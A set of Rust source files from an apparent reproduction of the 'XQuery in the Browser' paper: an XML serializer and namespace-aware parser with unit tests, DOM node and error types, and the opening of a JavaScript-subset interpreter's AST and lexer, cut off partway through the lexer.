                write_node(doc, c, out);
            }
        }
        NodeKind::Element {
            name,
            attrs,
            children,
            ns_decls,
        } => {
            out.push('<');
            out.push_str(&name.lexical());
            for (p, u) in ns_decls {
                if p.is_empty() {
                    out.push_str(" xmlns=\"");
                } else {
                    out.push_str(" xmlns:");
                    out.push_str(p);
                    out.push_str("=\"");
                }
                escape_attr(u, out);
                out.push('"');
            }
            for &a in attrs {
                if let NodeKind::Attribute { name, value } = doc.kind(a) {
                    out.push(' ');
                    out.push_str(&name.lexical());
                    out.push_str("=\"");
                    escape_attr(value, out);
                    out.push('"');
                }
            }
            if children.is_empty() {
                out.push_str("/>");
            } else {
                out.push('>');
                for &c in children {
                    write_node(doc, c, out);
                }
                out.push_str("</");
                out.push_str(&name.lexical());
                out.push('>');
            }
        }
        NodeKind::Attribute { name, value } => {
            // Serialising a bare attribute renders name="value".
            out.push_str(&name.lexical());
            out.push_str("=\"");
            escape_attr(value, out);
            out.push('"');
        }
        NodeKind::Text { value } => escape_text(value, out),
        NodeKind::Comment { value } => {
            out.push_str("<!--");
            out.push_str(value);
            out.push_str("-->");
        }
        NodeKind::ProcessingInstruction { target, value } => {
            out.push_str("<?");
            out.push_str(target);
            if !value.is_empty() {
                out.push(' ');
                out.push_str(value);
            }
            out.push_str("?>");
        }
    }
}

fn escape_text(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            c => out.push(c),
        }
    }
}

fn escape_attr(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse_document;

    fn roundtrip(src: &str) -> String {
        let d = parse_document(src).unwrap();
        serialize_document(&d)
    }

    #[test]
    fn simple_roundtrip() {
        assert_eq!(
            roundtrip("<a><b x=\"1\">hi</b></a>"),
            "<a><b x=\"1\">hi</b></a>"
        );
    }

    #[test]
    fn empty_element_collapsed() {
        assert_eq!(roundtrip("<a></a>"), "<a/>");
    }

    #[test]
    fn escaping() {
        let d = parse_document("<a t=\"x &amp; &quot;y&quot;\">1 &lt; 2 &amp; 3</a>").unwrap();
        assert_eq!(
            serialize_document(&d),
            "<a t=\"x &amp; &quot;y&quot;\">1 &lt; 2 &amp; 3</a>"
        );
    }

    #[test]
    fn namespace_decls_serialised() {
        let s = roundtrip(r#"<x:r xmlns:x="urn:x" xmlns="urn:d"><c/></x:r>"#);
        assert!(s.contains("xmlns:x=\"urn:x\""));
        assert!(s.contains("xmlns=\"urn:d\""));
    }

    #[test]
    fn comment_and_pi_roundtrip() {
        assert_eq!(
            roundtrip("<r><!--c--><?pi data?></r>"),
            "<r><!--c--><?pi data?></r>"
        );
    }

    #[test]
    fn double_roundtrip_is_fixpoint() {
        let once = roundtrip("<a>\n <b/> text <c q=\"v\"/></a>");
        let d2 = parse_document(&once).unwrap();
        assert_eq!(serialize_document(&d2), once);
    }
}
