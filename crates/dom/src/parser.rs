//! A from-scratch, namespace-aware XML/XHTML parser.
//!
//! The parser is a single-pass recursive-descent scanner over the input
//! bytes. It supports everything the paper's pages use: the XML declaration,
//! DOCTYPE (skipped), elements, attributes, namespace declarations, character
//! data with entity references, CDATA sections, comments and processing
//! instructions.
//!
//! [`ParseOptions::uppercase_names`] emulates Internet Explorer's behaviour
//! of upper-casing all HTML tag names, which §5.1 reports as a portability
//! hazard ("XPath expressions have to contain upper-case names"). Tests and
//! one experiment exercise this quirk.

use crate::arena::Document;
use crate::error::{DomError, DomResult};
use crate::name::QName;
use crate::node::NodeId;

/// Parser configuration.
#[derive(Debug, Clone, Default)]
pub struct ParseOptions {
    /// Upper-case all element names, as Internet Explorer did (§5.1).
    pub uppercase_names: bool,
    /// Drop text nodes that consist solely of whitespace between elements.
    pub trim_inter_element_whitespace: bool,
}

/// Parses a complete document.
pub fn parse_document(input: &str) -> DomResult<Document> {
    parse_with_options(input, &ParseOptions::default())
}

/// Parses a complete document with explicit options.
pub fn parse_with_options(input: &str, opts: &ParseOptions) -> DomResult<Document> {
    let mut p = Parser {
        bytes: input.as_bytes(),
        pos: 0,
        opts,
    };
    let mut doc = Document::new();
    p.skip_misc(&mut doc)?;
    if p.eof() {
        return Err(DomError::parse("document has no root element", p.pos));
    }
    let mut scope = NsScope::new();
    let root = p.parse_element(&mut doc, &mut scope)?;
    doc.append_child(doc.root(), root)
        .map_err(|e| DomError::parse(e.to_string(), p.pos))?;
    p.skip_misc(&mut doc)?;
    if !p.eof() {
        return Err(DomError::parse("content after root element", p.pos));
    }
    Ok(doc)
}

/// Parses a standalone fragment (sequence of content items) into a fresh
/// document whose document node holds the items. Useful for constructing
/// test fixtures and REST payloads.
pub fn parse_fragment(input: &str) -> DomResult<(Document, Vec<NodeId>)> {
    let opts = ParseOptions::default();
    let mut p = Parser {
        bytes: input.as_bytes(),
        pos: 0,
        opts: &opts,
    };
    let mut doc = Document::new();
    let mut scope = NsScope::new();
    let mut items = Vec::new();
    while !p.eof() {
        if p.peek_str("<!--") {
            let c = p.parse_comment(&mut doc)?;
            items.push(c);
        } else if p.peek_str("<?") {
            let pi = p.parse_pi(&mut doc)?;
            if let Some(pi) = pi {
                items.push(pi);
            }
        } else if p.peek() == Some(b'<') {
            let e = p.parse_element(&mut doc, &mut scope)?;
            items.push(e);
        } else {
            let t = p.parse_text(&mut doc)?;
            if let Some(t) = t {
                items.push(t);
            }
        }
    }
    let root = doc.root();
    for &i in &items {
        doc.append_child(root, i)
            .map_err(|e| DomError::parse(e.to_string(), 0))?;
    }
    Ok((doc, items))
}

/// Namespace scope stack used during parsing.
struct NsScope {
    /// (prefix, uri) frames; a frame boundary is marked by depth counters.
    frames: Vec<Vec<(String, String)>>,
}

impl NsScope {
    fn new() -> Self {
        NsScope {
            frames: vec![vec![]],
        }
    }
    fn push(&mut self) {
        self.frames.push(Vec::new());
    }
    fn pop(&mut self) {
        self.frames.pop();
    }
    fn declare(&mut self, prefix: &str, uri: &str) {
        self.frames
            .last_mut()
            .expect("scope stack never empty")
            .push((prefix.to_string(), uri.to_string()));
    }
    fn resolve(&self, prefix: &str) -> Option<&str> {
        for frame in self.frames.iter().rev() {
            for (p, u) in frame.iter().rev() {
                if p == prefix {
                    return if u.is_empty() { None } else { Some(u) };
                }
            }
        }
        match prefix {
            "xml" => Some(crate::name::XML_NS),
            _ => None,
        }
    }
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
    opts: &'a ParseOptions,
}

impl<'a> Parser<'a> {
    fn eof(&self) -> bool {
        self.pos >= self.bytes.len()
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn peek_str(&self, s: &str) -> bool {
        self.bytes[self.pos..].starts_with(s.as_bytes())
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek();
        if b.is_some() {
            self.pos += 1;
        }
        b
    }

    fn expect(&mut self, s: &str) -> DomResult<()> {
        if self.peek_str(s) {
            self.pos += s.len();
            Ok(())
        } else {
            Err(DomError::parse(format!("expected `{s}`"), self.pos))
        }
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\r' | b'\n')) {
            self.pos += 1;
        }
    }

    /// Skips whitespace, comments, PIs, the XML declaration and DOCTYPE that
    /// may appear outside the root element.
    fn skip_misc(&mut self, doc: &mut Document) -> DomResult<()> {
        loop {
            self.skip_ws();
            if self.peek_str("<?xml") {
                // XML declaration: skip to ?>
                self.seek_past("?>")?;
            } else if self.peek_str("<!DOCTYPE") {
                self.skip_doctype()?;
            } else if self.peek_str("<!--") {
                let _ = self.parse_comment(doc)?;
                // comments outside the root are currently dropped
            } else if self.peek_str("<?") {
                let _ = self.parse_pi(doc)?;
            } else {
                return Ok(());
            }
        }
    }

    fn seek_past(&mut self, end: &str) -> DomResult<()> {
        let hay = &self.bytes[self.pos..];
        match find_sub(hay, end.as_bytes()) {
            Some(i) => {
                self.pos += i + end.len();
                Ok(())
            }
            None => Err(DomError::parse(
                format!("unterminated, expected `{end}`"),
                self.pos,
            )),
        }
    }

    fn skip_doctype(&mut self) -> DomResult<()> {
        // Handles internal subsets in brackets.
        self.expect("<!DOCTYPE")?;
        let mut depth = 1usize;
        let mut in_bracket = false;
        while let Some(b) = self.bump() {
            match b {
                b'[' => in_bracket = true,
                b']' => in_bracket = false,
                b'<' => depth += 1,
                b'>' if !in_bracket => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(());
                    }
                }
                _ => {}
            }
        }
        Err(DomError::parse("unterminated DOCTYPE", self.pos))
    }

    fn parse_name(&mut self) -> DomResult<String> {
        let start = self.pos;
        while let Some(b) = self.peek() {
            let ok =
                b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':') || b >= 0x80;
            if ok {
                self.pos += 1;
            } else {
                break;
            }
        }
        if self.pos == start {
            return Err(DomError::parse("expected a name", self.pos));
        }
        Ok(String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned())
    }

    fn parse_element(&mut self, doc: &mut Document, scope: &mut NsScope) -> DomResult<NodeId> {
        self.expect("<")?;
        let raw_name = self.parse_name()?;
        scope.push();

        // First pass over attributes: collect raw (name, value) pairs and
        // register namespace declarations.
        let mut raw_attrs: Vec<(String, String)> = Vec::new();
        let mut ns_decls: Vec<(String, String)> = Vec::new();
        loop {
            self.skip_ws();
            match self.peek() {
                Some(b'/') | Some(b'>') | None => break,
                _ => {}
            }
            let aname = self.parse_name()?;
            self.skip_ws();
            self.expect("=")?;
            self.skip_ws();
            let value = self.parse_attr_value()?;
            if aname == "xmlns" {
                scope.declare("", &value);
                ns_decls.push((String::new(), value));
            } else if let Some(p) = aname.strip_prefix("xmlns:") {
                scope.declare(p, &value);
                ns_decls.push((p.to_string(), value));
            } else {
                raw_attrs.push((aname, value));
            }
        }

        let name = self.make_qname(&raw_name, scope, true)?;
        let elem = doc.create_element(name);
        for (p, u) in ns_decls {
            doc.add_ns_decl(elem, p, u)
                .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
        }
        for (aname, value) in raw_attrs {
            let qn = self.make_qname(&aname, scope, false)?;
            doc.set_attribute(elem, qn, value)
                .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
        }

        self.skip_ws();
        if self.peek_str("/>") {
            self.pos += 2;
            scope.pop();
            return Ok(elem);
        }
        self.expect(">")?;

        // Content
        loop {
            if self.eof() {
                return Err(DomError::parse(
                    format!("unterminated element <{raw_name}>"),
                    self.pos,
                ));
            }
            if self.peek_str("</") {
                self.pos += 2;
                let close = self.parse_name()?;
                if !names_match(&close, &raw_name, self.opts.uppercase_names) {
                    return Err(DomError::parse(
                        format!("mismatched close tag </{close}> for <{raw_name}>"),
                        self.pos,
                    ));
                }
                self.skip_ws();
                self.expect(">")?;
                scope.pop();
                return Ok(elem);
            } else if self.peek_str("<!--") {
                let c = self.parse_comment(doc)?;
                doc.append_child(elem, c)
                    .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
            } else if self.peek_str("<![CDATA[") {
                let t = self.parse_cdata(doc)?;
                doc.append_child(elem, t)
                    .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
            } else if self.peek_str("<?") {
                if let Some(pi) = self.parse_pi(doc)? {
                    doc.append_child(elem, pi)
                        .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
                }
            } else if self.peek() == Some(b'<') {
                let child = self.parse_element(doc, scope)?;
                doc.append_child(elem, child)
                    .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
            } else {
                if let Some(t) = self.parse_text(doc)? {
                    doc.append_child(elem, t)
                        .map_err(|e| DomError::parse(e.to_string(), self.pos))?;
                }
            }
        }
    }

    fn make_qname(&self, raw: &str, scope: &NsScope, is_element: bool) -> DomResult<QName> {
        let raw_cased: String = if self.opts.uppercase_names && is_element {
            raw.to_ascii_uppercase()
        } else {
            raw.to_string()
        };
        if let Some(colon) = raw_cased.find(':') {
            let (prefix, local) = raw_cased.split_at(colon);
            let local = &local[1..];
            let ns = scope.resolve(prefix).ok_or_else(|| {
                DomError::parse(format!("undeclared namespace prefix `{prefix}`"), self.pos)
            })?;
            Ok(QName::full(Some(prefix), Some(ns), local))
        } else if is_element {
            // default namespace applies to unprefixed element names
            Ok(QName::full(None, scope.resolve(""), &raw_cased))
        } else {
            // ...but never to attributes
            Ok(QName::local(&raw_cased))
        }
    }

    fn parse_attr_value(&mut self) -> DomResult<String> {
        let quote = self
            .bump()
            .ok_or_else(|| DomError::parse("expected attribute value", self.pos))?;
        if quote != b'"' && quote != b'\'' {
            return Err(DomError::parse("attribute value must be quoted", self.pos));
        }
        let start = self.pos;
        while let Some(b) = self.peek() {
            if b == quote {
                let raw = &self.bytes[start..self.pos];
                self.pos += 1;
                return decode_entities(&String::from_utf8_lossy(raw), start);
            }
            self.pos += 1;
        }
        Err(DomError::parse("unterminated attribute value", self.pos))
    }

    fn parse_text(&mut self, doc: &mut Document) -> DomResult<Option<NodeId>> {
        let start = self.pos;
        while let Some(b) = self.peek() {
            if b == b'<' {
                break;
            }
            self.pos += 1;
        }
        let raw = String::from_utf8_lossy(&self.bytes[start..self.pos]);
        let text = decode_entities(&raw, start)?;
        if self.opts.trim_inter_element_whitespace && text.chars().all(char::is_whitespace) {
            return Ok(None);
        }
        if text.is_empty() {
            return Ok(None);
        }
        Ok(Some(doc.create_text(text)))
    }

    fn parse_comment(&mut self, doc: &mut Document) -> DomResult<NodeId> {
        self.expect("<!--")?;
        let start = self.pos;
        match find_sub(&self.bytes[self.pos..], b"-->") {
            Some(i) => {
                let body = String::from_utf8_lossy(&self.bytes[start..start + i]).into_owned();
                self.pos += i + 3;
                Ok(doc.create_comment(body))
            }
            None => Err(DomError::parse("unterminated comment", self.pos)),
        }
    }

    fn parse_cdata(&mut self, doc: &mut Document) -> DomResult<NodeId> {
        self.expect("<![CDATA[")?;
        let start = self.pos;
        match find_sub(&self.bytes[self.pos..], b"]]>") {
            Some(i) => {
                let body = String::from_utf8_lossy(&self.bytes[start..start + i]).into_owned();
                self.pos += i + 3;
                Ok(doc.create_text(body))
            }
            None => Err(DomError::parse("unterminated CDATA section", self.pos)),
        }
    }

    /// Returns `None` for the XML declaration, `Some(pi)` otherwise.
    fn parse_pi(&mut self, doc: &mut Document) -> DomResult<Option<NodeId>> {
        self.expect("<?")?;
        let target = self.parse_name()?;
        self.skip_ws();
        let start = self.pos;
        match find_sub(&self.bytes[self.pos..], b"?>") {
            Some(i) => {
                let body = String::from_utf8_lossy(&self.bytes[start..start + i]).into_owned();
                self.pos += i + 2;
                if target.eq_ignore_ascii_case("xml") {
                    Ok(None)
                } else {
                    Ok(Some(doc.create_pi(target, body.trim_end().to_string())))
                }
            }
            None => Err(DomError::parse(
                "unterminated processing instruction",
                self.pos,
            )),
        }
    }
}

fn names_match(close: &str, open: &str, case_insensitive: bool) -> bool {
    if case_insensitive {
        close.eq_ignore_ascii_case(open)
    } else {
        close == open
    }
}

fn find_sub(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || hay.len() < needle.len() {
        return None;
    }
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Decodes the five predefined entities plus numeric character references.
pub fn decode_entities(raw: &str, base_offset: usize) -> DomResult<String> {
    if !raw.contains('&') {
        return Ok(raw.to_string());
    }
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        let Some(semi) = after.find(';') else {
            return Err(DomError::parse(
                "unterminated entity reference",
                base_offset,
            ));
        };
        let ent = &after[..semi];
        match ent {
            "lt" => out.push('<'),
            "gt" => out.push('>'),
            "amp" => out.push('&'),
            "quot" => out.push('"'),
            "apos" => out.push('\''),
            _ => {
                if let Some(hex) = ent.strip_prefix("#x").or_else(|| ent.strip_prefix("#X")) {
                    let cp = u32::from_str_radix(hex, 16).map_err(|_| {
                        DomError::parse(format!("bad character reference &{ent};"), base_offset)
                    })?;
                    out.push(
                        char::from_u32(cp)
                            .ok_or_else(|| DomError::parse("invalid code point", base_offset))?,
                    );
                } else if let Some(dec) = ent.strip_prefix('#') {
                    let cp: u32 = dec.parse().map_err(|_| {
                        DomError::parse(format!("bad character reference &{ent};"), base_offset)
                    })?;
                    out.push(
                        char::from_u32(cp)
                            .ok_or_else(|| DomError::parse("invalid code point", base_offset))?,
                    );
                } else {
                    return Err(DomError::parse(
                        format!("unknown entity &{ent};"),
                        base_offset,
                    ));
                }
            }
        }
        rest = &after[semi + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::node::NodeKind;

    #[test]
    fn minimal_document() {
        let d = parse_document("<html/>").unwrap();
        let root_kids = d.children(d.root());
        assert_eq!(root_kids.len(), 1);
        assert_eq!(d.element_name(root_kids[0]).unwrap().lexical(), "html");
    }

    #[test]
    fn nested_with_text_and_attrs() {
        let d = parse_document(
            r#"<html><body id="b"><p class="x">Hello <b>World</b>!</p></body></html>"#,
        )
        .unwrap();
        let html = d.children(d.root())[0];
        let body = d.children(html)[0];
        assert_eq!(d.get_attribute(body, None, "id"), Some("b"));
        let p = d.children(body)[0];
        assert_eq!(d.string_value(p), "Hello World!");
        assert_eq!(d.children(p).len(), 3);
    }

    #[test]
    fn xml_decl_and_doctype_skipped() {
        let d = parse_document(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE html>\n<html><body/></html>",
        )
        .unwrap();
        assert_eq!(d.children(d.root()).len(), 1);
    }

    #[test]
    fn entities_decoded() {
        let d = parse_document("<p a=\"x &amp; y\">&lt;tag&gt; &#65;&#x42;</p>").unwrap();
        let p = d.children(d.root())[0];
        assert_eq!(d.get_attribute(p, None, "a"), Some("x & y"));
        assert_eq!(d.string_value(p), "<tag> AB");
    }

    #[test]
    fn cdata_preserved_verbatim() {
        let d = parse_document("<s><![CDATA[a < b && c]]></s>").unwrap();
        let s = d.children(d.root())[0];
        assert_eq!(d.string_value(s), "a < b && c");
    }

    #[test]
    fn comments_and_pis() {
        let d = parse_document("<r><!-- note --><?phptarget do it?></r>").unwrap();
        let r = d.children(d.root())[0];
        let kids = d.children(r);
        assert_eq!(kids.len(), 2);
        assert!(matches!(d.kind(kids[0]), NodeKind::Comment { value } if value == " note "));
        assert!(matches!(
            d.kind(kids[1]),
            NodeKind::ProcessingInstruction { target, .. } if target == "phptarget"
        ));
    }

    #[test]
    fn namespaces_resolved() {
        let d = parse_document(
            r#"<x:root xmlns:x="urn:x" xmlns="urn:default"><child/><x:kid/></x:root>"#,
        )
        .unwrap();
        let root = d.children(d.root())[0];
        assert_eq!(d.element_name(root).unwrap().ns.as_deref(), Some("urn:x"));
        let kids = d.children(root);
        assert_eq!(
            d.element_name(kids[0]).unwrap().ns.as_deref(),
            Some("urn:default"),
            "default namespace applies to unprefixed elements"
        );
        assert_eq!(
            d.element_name(kids[1]).unwrap().ns.as_deref(),
            Some("urn:x")
        );
    }

    #[test]
    fn default_ns_does_not_apply_to_attributes() {
        let d = parse_document(r#"<r xmlns="urn:d" a="1"/>"#).unwrap();
        let r = d.children(d.root())[0];
        assert_eq!(d.get_attribute(r, None, "a"), Some("1"));
    }

    #[test]
    fn undeclared_prefix_is_error() {
        assert!(parse_document("<x:r/>").is_err());
    }

    #[test]
    fn mismatched_close_tag_is_error() {
        let err = parse_document("<a><b></a></b>").unwrap_err();
        assert!(matches!(err, DomError::Parse { .. }));
    }

    #[test]
    fn unterminated_element_is_error() {
        assert!(parse_document("<a><b>").is_err());
        assert!(parse_document("<a").is_err());
    }

    #[test]
    fn content_after_root_is_error() {
        assert!(parse_document("<a/><b/>").is_err());
    }

    #[test]
    fn ie_uppercase_quirk() {
        let opts = ParseOptions {
            uppercase_names: true,
            ..Default::default()
        };
        let d = parse_with_options("<html><Body id='x'/></html>", &opts).unwrap();
        let html = d.children(d.root())[0];
        assert_eq!(d.element_name(html).unwrap().lexical(), "HTML");
        let body = d.children(html)[0];
        assert_eq!(d.element_name(body).unwrap().lexical(), "BODY");
        // attribute names keep their case
        assert_eq!(d.get_attribute(body, None, "id"), Some("x"));
    }

    #[test]
    fn whitespace_trimming_option() {
        let src = "<r>\n  <a/>\n  <b/>\n</r>";
        let keep = parse_document(src).unwrap();
        let r = keep.children(keep.root())[0];
        assert_eq!(keep.children(r).len(), 5);
        let opts = ParseOptions {
            trim_inter_element_whitespace: true,
            ..Default::default()
        };
        let trim = parse_with_options(src, &opts).unwrap();
        let r = trim.children(trim.root())[0];
        assert_eq!(trim.children(r).len(), 2);
    }

    #[test]
    fn fragment_parsing() {
        let (doc, items) = parse_fragment("text<first/><second/>more").unwrap();
        assert_eq!(items.len(), 4);
        assert_eq!(doc.string_value(doc.root()), "textmore");
    }

    #[test]
    fn single_quotes_ok() {
        let d = parse_document("<a x='1' y=\"2\"/>").unwrap();
        let a = d.children(d.root())[0];
        assert_eq!(d.get_attribute(a, None, "x"), Some("1"));
        assert_eq!(d.get_attribute(a, None, "y"), Some("2"));
    }
}
