//! # xqib-dom
//!
//! XML/XHTML document object model for the XQIB reproduction of
//! *"XQuery in the Browser"* (WWW 2009).
//!
//! The crate provides:
//!
//! * an **arena-based DOM**: each [`Document`] owns a `Vec` of nodes addressed
//!   by [`NodeId`] — compact, cache-friendly and free of `Rc` cycles;
//! * a multi-document [`Store`] with global node identity ([`NodeRef`]);
//! * a from-scratch, namespace-aware **XML/XHTML parser** ([`parse_document`]);
//! * **document order** comparison and stable sorting of node sets;
//! * a **mutation API** (insert/detach/replace/rename/deep-copy) used by the
//!   XQuery Update Facility to update live web pages, exactly as the paper's
//!   plug-in updates Internet Explorer's DOM through an XDM wrapper;
//! * serialisation back to markup.
//!
//! The DOM is deliberately *untyped* (no schema validation): the paper's whole
//! premise is that XQuery "can natively process (untyped) Web pages" (§3.1).

pub mod arena;
pub mod error;
pub mod name;
pub mod node;
pub mod order;
pub mod parser;
pub mod serialize;
pub mod store;

pub use arena::Document;
pub use error::{DomError, DomResult};
pub use name::QName;
pub use node::{NodeId, NodeKind};
pub use order::{cmp_doc_order, sort_dedup, OrderIndex};
pub use parser::{parse_document, ParseOptions};
pub use store::{DocId, NodeRef, SharedStore, Store};
