//! Error type shared by the DOM layer.

use std::fmt;

/// Errors raised by DOM construction, mutation and parsing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DomError {
    /// The XML parser rejected the input; carries a human-readable message
    /// and the byte offset at which the problem was detected.
    Parse { message: String, offset: usize },
    /// A mutation targeted a node that does not exist (stale `NodeId`) or
    /// that was detached from the tree.
    InvalidNode(String),
    /// A mutation would produce a malformed tree (e.g. inserting an
    /// attribute as a child of a document node, or creating a cycle).
    InvalidMutation(String),
    /// A `DocId` did not resolve inside the store.
    UnknownDocument(String),
}

impl DomError {
    pub fn parse(message: impl Into<String>, offset: usize) -> Self {
        DomError::Parse {
            message: message.into(),
            offset,
        }
    }
}

impl fmt::Display for DomError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DomError::Parse { message, offset } => {
                write!(f, "XML parse error at byte {offset}: {message}")
            }
            DomError::InvalidNode(m) => write!(f, "invalid node: {m}"),
            DomError::InvalidMutation(m) => write!(f, "invalid mutation: {m}"),
            DomError::UnknownDocument(m) => write!(f, "unknown document: {m}"),
        }
    }
}

impl std::error::Error for DomError {}

/// Convenience alias used across the crate.
pub type DomResult<T> = Result<T, DomError>;
