//! Node identifiers and node payloads.

use crate::name::QName;

/// Index of a node within its [`crate::arena::Document`] arena.
///
/// `NodeId`s are never reused: detached/deleted nodes stay in the arena as
/// unreachable tombstones, which keeps every outstanding reference valid —
/// the behaviour the paper relies on for "stale" window/document references
/// that keep existing but become useless (§4.2.1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NodeId(pub u32);

impl NodeId {
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// The seven XDM node kinds relevant to web pages (no schema types).
#[derive(Debug, Clone)]
pub enum NodeKind {
    /// Document root. Owns top-level children (at most one element plus
    /// comments/PIs).
    Document {
        children: Vec<NodeId>,
    },
    /// An element with attribute nodes, namespace declarations captured on
    /// the element, and ordered children.
    Element {
        name: QName,
        attrs: Vec<NodeId>,
        children: Vec<NodeId>,
        /// In-scope namespace declarations written on this element
        /// (`prefix -> uri`); `""` prefix is the default namespace.
        ns_decls: Vec<(String, String)>,
    },
    /// An attribute. Attributes are arena nodes so that XPath's `attribute`
    /// axis, node identity and `replace value of node` work uniformly.
    Attribute {
        name: QName,
        value: String,
    },
    Text {
        value: String,
    },
    Comment {
        value: String,
    },
    ProcessingInstruction {
        target: String,
        value: String,
    },
}

impl NodeKind {
    pub fn kind_name(&self) -> &'static str {
        match self {
            NodeKind::Document { .. } => "document",
            NodeKind::Element { .. } => "element",
            NodeKind::Attribute { .. } => "attribute",
            NodeKind::Text { .. } => "text",
            NodeKind::Comment { .. } => "comment",
            NodeKind::ProcessingInstruction { .. } => "processing-instruction",
        }
    }

    pub fn is_element(&self) -> bool {
        matches!(self, NodeKind::Element { .. })
    }
    pub fn is_attribute(&self) -> bool {
        matches!(self, NodeKind::Attribute { .. })
    }
    pub fn is_text(&self) -> bool {
        matches!(self, NodeKind::Text { .. })
    }
    pub fn is_document(&self) -> bool {
        matches!(self, NodeKind::Document { .. })
    }
}

/// A node in the arena: payload plus parent link.
#[derive(Debug, Clone)]
pub struct NodeData {
    pub parent: Option<NodeId>,
    pub kind: NodeKind,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kind_names() {
        assert_eq!(
            NodeKind::Text {
                value: String::new()
            }
            .kind_name(),
            "text"
        );
        assert_eq!(
            NodeKind::Document { children: vec![] }.kind_name(),
            "document"
        );
        assert!(NodeKind::Attribute {
            name: QName::local("id"),
            value: "x".into()
        }
        .is_attribute());
    }
}
