//! # xqib-minijs
//!
//! A **JavaScript-subset interpreter with DOM bindings** — the baseline the
//! paper compares XQuery against (§2.1 JavaScript, §2.2 embedded XPath) and
//! the co-existing second language of the mash-up scenario (§6.2).
//!
//! The subset covers what browser scripting of the 2009 era needed:
//! `var`, functions, `if`/`else`, `while`, `for`, `return`, the usual
//! operators, strings/numbers/booleans/null, arrays, and the DOM API —
//! `document.createElement`, `createTextNode`, `getElementById`,
//! `appendChild`, `insertBefore`, `setAttribute`, `getAttribute`,
//! `addEventListener`, and `document.evaluate` with **embedded XPath**
//! (delegated to the real `xqib-xquery` engine, since XPath is a subset of
//! XQuery — the paper's very argument).
//!
//! The engine shares the page's DOM store with the XQuery plug-in; listener
//! registrations surface through [`JsEngine::take_registrations`] so a host
//! can bind them to the shared event system — both languages then listen to
//! the same events on the same DOM, which is exactly Figure 3.

pub mod ast;
pub mod interp;
pub mod lexer;
pub mod parser;

pub use interp::{JsEngine, JsError, Value};
pub use parser::parse_program;
