//! AST of the JavaScript subset.

use std::rc::Rc;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinOp {
    Add,
    Sub,
    Mul,
    Div,
    Mod,
    Eq,
    NotEq,
    Lt,
    LtEq,
    Gt,
    GtEq,
    And,
    Or,
}

#[derive(Debug, Clone)]
pub enum JsExpr {
    Number(f64),
    Str(String),
    Bool(bool),
    Null,
    Undefined,
    Ident(String),
    Array(Vec<JsExpr>),
    Binary(BinOp, Box<JsExpr>, Box<JsExpr>),
    Not(Box<JsExpr>),
    Neg(Box<JsExpr>),
    /// `obj.prop`
    Member(Box<JsExpr>, String),
    /// `obj[idx]`
    Index(Box<JsExpr>, Box<JsExpr>),
    /// `f(args)` / `obj.m(args)`
    Call(Box<JsExpr>, Vec<JsExpr>),
    /// anonymous `function (params) { body }`
    FunctionLit(Rc<JsFunction>),
    /// `target = value` (target: Ident/Member/Index)
    Assign(Box<JsExpr>, Box<JsExpr>),
    /// `target += value`
    AddAssign(Box<JsExpr>, Box<JsExpr>),
}

#[derive(Debug, Clone)]
pub enum JsStmt {
    VarDecl(String, Option<JsExpr>),
    Expr(JsExpr),
    If(JsExpr, Vec<JsStmt>, Vec<JsStmt>),
    While(JsExpr, Vec<JsStmt>),
    /// `for (init; cond; step) body`
    For(
        Option<Box<JsStmt>>,
        Option<JsExpr>,
        Option<JsExpr>,
        Vec<JsStmt>,
    ),
    Return(Option<JsExpr>),
    FunctionDecl(String, Rc<JsFunction>),
}

#[derive(Debug)]
pub struct JsFunction {
    pub name: Option<String>,
    pub params: Vec<String>,
    pub body: Vec<JsStmt>,
}

/// A parsed program.
#[derive(Debug)]
pub struct JsProgram {
    pub stmts: Vec<JsStmt>,
}
