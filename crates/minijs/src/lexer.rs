//! Tokenizer for the JavaScript subset.

use std::fmt;

#[derive(Debug, Clone, PartialEq)]
pub enum JsTok {
    Ident(String),
    Number(f64),
    Str(String),
    // punctuation
    LParen,
    RParen,
    LBrace,
    RBrace,
    LBracket,
    RBracket,
    Semi,
    Comma,
    Dot,
    // operators
    Plus,
    Minus,
    Star,
    Slash,
    Percent,
    Assign,
    PlusAssign,
    Eq,
    StrictEq,
    NotEq,
    StrictNotEq,
    Lt,
    LtEq,
    Gt,
    GtEq,
    AndAnd,
    OrOr,
    Not,
    Eof,
}

impl fmt::Display for JsTok {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// Tokenizes a source string.
pub fn tokenize(src: &str) -> Result<Vec<JsTok>, String> {
    let b = src.as_bytes();
    let mut i = 0;
    let mut out = Vec::new();
